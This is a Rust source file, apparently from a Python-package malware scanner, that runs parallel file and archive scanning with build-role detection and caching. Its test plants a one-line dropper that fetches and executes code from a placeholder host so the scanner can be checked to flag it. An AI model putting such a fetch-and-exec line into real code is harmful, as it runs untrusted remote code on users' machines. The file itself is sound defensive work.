//! The pipeline: walk → read → analyse on every core → events to one consumer.
//!
//! Workers never print. Each result is sent over a channel as an [`Event`];
//! the caller's single consumer (the CLI's printer thread) orders and renders
//! them.

use crate::analysis::{FileLimits, Worker};
use crate::config::Config;
use crate::python::model::BuildRole;
use crate::report::{Finding, Report, ScanError};
use crate::signatures::Signatures;
use crate::source::package::{self, Packages};
use crate::source::project::{self, Hooks, Projects};
use crate::source::{self, Item, archive};
use crossbeam_channel::Sender;
use rayon::prelude::*;
use std::path::PathBuf;
use std::time::Instant;

/// Settings of one scan.
#[derive(Debug, Clone)]
pub struct Options {
    /// Worker threads; 0 means one per core.
    pub threads: usize,
    /// Files larger than this are reported as errors, not read.
    pub max_file_size: u64,
    /// Limits on archives read in memory.
    pub archive_limits: archive::Limits,
    /// Time and decoding budgets of each file.
    pub file_limits: FileLimits,
    /// Where results are remembered between scans, when at all.
    pub cache: Option<std::sync::Arc<crate::cache::Cache>>,
    /// The settings file's choices: what to walk, what to suppress.
    pub config: std::sync::Arc<Config>,
    /// No new file is started after this instant (`--max-time`).
    pub deadline: Option<Instant>,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            threads: 0,
            max_file_size: 256 << 20,
            archive_limits: archive::Limits::default(),
            file_limits: FileLimits::default(),
            cache: None,
            config: std::sync::Arc::default(),
            deadline: None,
        }
    }
}

/// What the workers send to the consumer.
#[derive(Debug)]
pub enum Event {
    Finding(Box<Finding>),
    Error(ScanError),
    /// A file was analysed (with or without findings).
    File {
        bytes: u64,
    },
}

/// Scans `paths`, sending every event to `tx`; returns when all are sent.
pub fn run(
    paths: &[PathBuf],
    sigs: &Signatures,
    opts: &Options,
    tx: &Sender<Event>,
) -> Result<(), rayon::ThreadPoolBuildError> {
    let pool = rayon::ThreadPoolBuilder::new()
        .num_threads(opts.threads)
        .thread_name(|i| format!("hiss-worker-{i}"))
        .build()?;
    crate::python::memory::tune();
    let places = Places::default();
    let config = &opts.config;
    let skip = |display: &str, is_dir: bool| {
        if is_dir {
            config.prunes(display)
        } else {
            !config.admits(display)
        }
    };
    let cut = std::sync::atomic::AtomicBool::new(false);
    let in_time = |_: &source::Walked| {
        let go = opts.deadline.is_none_or(|d| Instant::now() < d);
        if !go {
            cut.store(true, std::sync::atomic::Ordering::Relaxed);
        }
        go
    };
    pool.install(|| {
        source::walk(paths, &skip)
            .take_while(in_time)
            .par_bridge()
            .for_each_init(
                || Worker::with_limits(sigs, opts.file_limits),
                |worker, walked| {
                    let events = match walked {
                        Ok(item) => scan_item(worker, &item, opts, &places),
                        Err(e) => vec![Event::Error(e)],
                    };
                    for e in events {
                        // A closed channel means the consumer is gone: nothing
                        // left to report to.
                        let _ = tx.send(e);
                    }
                },
            )
    });
    if cut.load(std::sync::atomic::Ordering::Relaxed) {
        let _ = tx.send(Event::Error(ScanError {
            path: paths
                .iter()
                .map(|p| p.to_string_lossy())
                .collect::<Vec<_>>()
                .join(", "),
            message: "the --max-time budget ran out: files not reached by then were not scanned"
                .to_string(),
        }));
    }
    Ok(())
}

/// What files on disk learn from the folders around them, shared by all
/// workers: their distribution and whether a build runs them.
#[derive(Default)]
struct Places {
    packages: Packages,
    projects: Projects,
}

fn scan_item(worker: &mut Worker<'_>, item: &Item, opts: &Options, places: &Places) -> Vec<Event> {
    let _turn = crate::python::memory::TurnScope::begin();
    if item.size > opts.max_file_size {
        return vec![Event::Error(ScanError {
            path: item.display.clone(),
            message: format!(
                "{} bytes is over the {}-byte limit (--max-file-size); not scanned",
                item.size, opts.max_file_size
            ),
        })];
    }
    // A big item holds tens of MB from its read to the hand-back of memory
    // below: it takes one of the heavy items' places before it is read.
    if item.size > HEAVY_FILE as u64 {
        crate::python::memory::take_heavy_item_place();
    }
    let data = match std::fs::read(&item.path) {
        Ok(d) => d,
        Err(e) => {
            return vec![Event::Error(ScanError {
                path: item.display.clone(),
                message: format!("cannot read: {e}"),
            })];
        }
    };
    let mut events = Vec::new();
    let role = if is_python_module(&item.display) {
        places.projects.role_of(&item.path)
    } else {
        None
    };
    // The name decides the role (`setup.py`, `.pth`, a notebook); the
    // project around it may add one.
    let key = opts.cache.as_ref().map(|cache| {
        let name = item.display.rsplit(['/', '\\']).next().unwrap_or("");
        cache.key(name, &format!("{role:?}"), &data)
    });
    let cached = match (&opts.cache, &key) {
        (Some(cache), Some(key)) => cache.get(key, &item.display),
        _ => None,
    };
    match cached {
        Some(stored) => events = stored,
        None => {
            let timeouts = worker.timeouts;
            let start = crate::python::memory::heap_mark();
            scan_bytes(
                worker,
                &item.display,
                &data,
                role.as_ref(),
                opts,
                0,
                &mut events,
            );
            if crate::python::memory::heap_peak() - start > HEAVY_HEAP || data.len() > HEAVY_FILE {
                crate::python::memory::release();
            }
            // A file that ran out of time may finish on a quieter machine.
            if let (Some(cache), Some(key)) = (&opts.cache, key)
                && worker.timeouts == timeouts
            {
                cache.put(key, &item.display, &events);
            }
        }
    }
    if events
        .iter()
        .any(|e| matches!(e, Event::Finding(f) if f.package.is_none()))
    {
        set_package(&mut events, places.packages.of_file(&item.path));
    }
    events
}

/// A file whose analysis held more than this (the Rust heap), or whose size
/// is above [`HEAVY_FILE`] (its syntax tree), has its freed memory handed
/// back at once: a few hundred files of a tree of fifty thousand.
const HEAVY_HEAP: isize = 16 << 20;
const HEAVY_FILE: usize = 256 << 10;

/// Gives findings that know no package yet the one found for them.
fn set_package(events: &mut [Event], package: Option<crate::report::Package>) {
    let Some(package) = package else { return };
    for e in events {
        if let Event::Finding(f) = e
            && f.package.is_none()
        {
            f.package = Some(package.clone());
        }
    }
}

/// Whether a build could run this file as a module (not `setup.py` itself).
fn is_python_module(path: &str) -> bool {
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
    name.ends_with(".py") && name != "setup.py"
}

/// One file's bytes, or an archive's members (`ARCHIVE!/MEMBER`), nested
/// archives included up to the depth limit. `role` is what the project
/// around the file makes of it, when known.
fn scan_bytes(
    worker: &mut Worker<'_>,
    display: &str,
    data: &[u8],
    role: Option<&BuildRole>,
    opts: &Options,
    depth: usize,
    events: &mut Vec<Event>,
) {
    let Some(kind) = archive::detect(data) else {
        scan_plain(worker, display, data, role, events);
        return;
    };
    if depth >= opts.archive_limits.max_depth {
        events.push(Event::Error(ScanError {
            path: display.to_string(),
            message: format!(
                "archive nested deeper than {} levels; not opened",
                opts.archive_limits.max_depth
            ),
        }));
        return;
    }
    let mut members = 0usize;
    let mut found: Vec<Event> = Vec::new();
    let mut metadata = None;
    // Python modules wait for the end of the archive: whether a build runs
    // them depends on pyproject.toml / setup.cfg / setup.py, wherever those
    // sit in the member order.
    let mut modules: Vec<archive::Member> = Vec::new();
    let mut project_files: Vec<(String, Vec<u8>)> = Vec::new();
    let problems = archive::read(data, kind, &opts.archive_limits, &mut |m| {
        members += 1;
        if metadata.is_none() && package::is_metadata(&m.name) {
            metadata = package::parse(&m.data);
        }
        let file = m.name.rsplit('/').next().unwrap_or("");
        if project::PROJECT_FILES.contains(&file) {
            project_files.push((m.name.clone(), m.data.clone()));
        }
        if is_python_module(&m.name) {
            modules.push(m);
            return;
        }
        let path = format!("{display}!/{}", m.name);
        scan_bytes(worker, &path, &m.data, None, opts, depth + 1, &mut found);
    });
    let hooks = archive_hooks(&project_files);
    for m in modules {
        let role = hooks.iter().find_map(|(root, h)| {
            let rel = if root.is_empty() {
                m.name.as_str()
            } else {
                m.name.strip_prefix(root.as_str())?.strip_prefix('/')?
            };
            h.role_of(rel)
        });
        let path = format!("{display}!/{}", m.name);
        scan_bytes(
            worker,
            &path,
            &m.data,
            role.as_ref(),
            opts,
            depth + 1,
            &mut found,
        );
    }
    set_package(&mut found, metadata);
    events.append(&mut found);
    if members == 0 && kind != archive::Kind::Zip {
        // A compressed file that is not a tar (a .gz of data): scan the
        // file as it is rather than call it broken. A damaged stream is
        // still an error.
        scan_plain(worker, display, data, role, events);
        events.extend(
            problems
                .into_iter()
                .filter(|m| m.starts_with(archive::CORRUPT_STREAM))
                .map(|message| {
                    Event::Error(ScanError {
                        path: display.to_string(),
                        message,
                    })
                }),
        );
        return;
    }
    events.extend(problems.into_iter().map(|message| {
        Event::Error(ScanError {
            path: display.to_string(),
            message,
        })
    }));
}

/// The install hooks of every project inside an archive (an sdist has one,
/// under `name-version/`), keyed by the project's folder.
fn archive_hooks(files: &[(String, Vec<u8>)]) -> Vec<(String, Hooks)> {
    let mut roots: Vec<String> = files
        .iter()
        .map(|(name, _)| name.rsplit_once('/').map_or("", |(dir, _)| dir).to_string())
        .collect();
    roots.sort();
    roots.dedup();
    // The nearest project folder decides: deepest first.
    roots.sort_by_key(|r| std::cmp::Reverse(r.len()));
    roots
        .into_iter()
        .filter_map(|root| {
            let get = |file: &str| {
                let want = if root.is_empty() {
                    file.to_string()
                } else {
                    format!("{root}/{file}")
                };
                files
                    .iter()
                    .find(|(n, _)| *n == want)
                    .map(|(_, d)| d.as_slice())
            };
            let hooks = Hooks::from_files(get("pyproject.toml"), get("setup.cfg"), get("setup.py"));
            (!hooks.is_empty()).then_some((root, hooks))
        })
        .collect()
}

fn scan_plain(
    worker: &mut Worker<'_>,
    display: &str,
    data: &[u8],
    role: Option<&BuildRole>,
    events: &mut Vec<Event>,
) {
    let result = worker.analyze_as(display, data, role);
    events.push(Event::File {
        bytes: data.len() as u64,
    });
    events.extend(
        result
            .findings
            .into_iter()
            .map(|f| Event::Finding(Box::new(f))),
    );
    events.extend(result.errors.into_iter().map(Event::Error));
}

/// Collects events into a sorted [`Report`]: the consumer for whole-document
/// formats.
#[derive(Debug)]
pub struct Collector {
    report: Report,
    started: Instant,
}

impl Default for Collector {
    fn default() -> Self {
        Collector {
            report: Report::default(),
            started: Instant::now(),
        }
    }
}

impl Collector {
    pub fn add(&mut self, event: Event) {
        match event {
            Event::Finding(f) => self.report.findings.push(*f),
            Event::Error(e) => self.report.errors.push(e),
            Event::File { bytes } => {
                self.report.summary.files += 1;
                self.report.summary.bytes += bytes;
            }
        }
    }

    /// A finding the settings suppressed: counted, not kept.
    pub fn suppressed(&mut self) {
        self.report.summary.suppressed += 1;
    }

    /// A finding the baseline already holds: counted, not kept.
    pub fn baselined(&mut self) {
        self.report.summary.baselined += 1;
    }

    /// Files, bytes, findings and errors so far, for a progress display.
    pub fn progress(&self) -> (u64, u64, usize, usize) {
        let s = &self.report.summary;
        (
            s.files,
            s.bytes,
            self.report.findings.len(),
            self.report.errors.len(),
        )
    }

    pub fn finish(mut self) -> Report {
        self.report.summary.duration_ms = self.started.elapsed().as_millis() as u64;
        self.report.sort();
        self.report
    }
}

/// Scans `paths` and returns the sorted report: the library's one-call API.
pub fn scan_paths(paths: &[PathBuf], sigs: &Signatures, opts: &Options) -> Report {
    let (tx, rx) = crossbeam_channel::unbounded();
    let mut collector = Collector::default();
    std::thread::scope(|s| {
        let consumer = s.spawn(|| {
            for mut e in rx {
                if let Event::Finding(f) = &mut e
                    && !opts.config.keep(f)
                {
                    collector.suppressed();
                    continue;
                }
                collector.add(e);
            }
        });
        if let Err(e) = run(paths, sigs, opts, &tx) {
            let _ = tx.send(Event::Error(ScanError {
                path: String::new(),
                message: format!("cannot start worker threads: {e}"),
            }));
        }
        drop(tx);
        consumer.join().expect("the collector does not panic");
    });
    collector.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::python::memory::turns;

    /// Four workers meet four big files, four small ones whose decoding
    /// holds tens of MB, and many light files: no more than two big files
    /// are analysed at once, the heavy evaluations one at a time, the light
    /// files beside them, and a dropper among the big files is still found.
    #[test]
    fn heavy_work_takes_turns() {
        let dir = tempfile::tempdir().unwrap();
        let filler = "def f(x):\n    return x + 1\n".repeat(HEAVY_FILE / 20);
        for i in 0..4 {
            let mut text = filler.clone();
            if i == 2 {
                text.push_str(
                    "import urllib.request\nexec(urllib.request.urlopen('http://example.invalid/x').read())\n",
                );
            }
            std::fs::write(dir.path().join(format!("big_{i}.py")), text).unwrap();
        }
        // A test's payload, built from ranges: megabytes of values.
        let builds = "payload = b''.join([bytes((*range(0, i), *range(i, 0, -1))) \
                      for i in range(255) for _ in range(96)])\n";
        for i in 0..4 {
            std::fs::write(dir.path().join(format!("builds_{i}.py")), builds).unwrap();
        }
        for i in 0..32 {
            std::fs::write(dir.path().join(format!("light_{i}.py")), "x = 1\n").unwrap();
        }
        let sigs = Signatures::load(&[]).unwrap();
        let opts = Options {
            threads: 4,
            ..Options::default()
        };
        let report = scan_paths(&[dir.path().to_path_buf()], &sigs, &opts);
        let (taken, most) = turns::TURN.seen();
        let (places, most_places) = turns::PLACES.seen();
        // (Other tests scanning heavy files at the same time count too.)
        assert!(taken >= 4, "each heavy evaluation takes the turn: {taken}");
        assert_eq!(most, 1, "two heavy evaluations ran at once");
        assert!(places >= 4, "each big file takes a place: {places}");
        assert_eq!(
            most_places,
            crate::python::memory::HEAVY_ITEMS_AT_ONCE,
            "four workers with four big files fill every place, and no more"
        );
        assert!(report.errors.is_empty(), "{:?}", report.errors);
        assert!(
            report.findings.iter().any(
                |f| f.path.ends_with("big_2.py") && f.severity >= crate::report::Severity::High
            ),
            "{:?}",
            report.findings
        );
    }
}
